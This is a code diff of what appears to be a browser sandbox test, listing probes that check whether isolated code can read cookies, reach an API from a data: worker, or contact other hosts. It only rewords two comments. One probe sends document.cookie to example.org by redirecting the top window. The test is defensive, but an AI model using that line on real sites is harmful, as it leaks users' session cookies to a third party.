@@ -179,7 +179,7 @@ const tries = {
   cookie: () => document.cookie,
   parent: () => parent.document.cookie,
   top: () => { top.location = 'https://example.org/?' + document.cookie; return 'left'; },
-  // Sends a request from a worker with a `data:` address, where none of our scripts changes requests.
+  // In a worker of data, whose requests none of our scripts changes.
   call: () => new Promise((done, no) => {
     const address = JSON.stringify(new URL('/api/users/profile/', location.href).href);
     const code = 'fetch(' + address + ').then((a) => postMessage(a.status), () => postMessage(0))';
@@ -187,7 +187,7 @@ const tries = {
     worker.onmessage = ({ data }) => data === 0 ? no(new Error('no answer')) : done(data);
     worker.onerror = no;
   }),
-  // In a page's own script, the same address means a file of the study.
+  // From a page's own script, it is a file of the study.
   file: async () => (await fetch('/api/users/profile/')).status,
   elsewhere: async () => (await fetch('https://example.org/')).status,
   socket: () => new Promise((done, no) => {
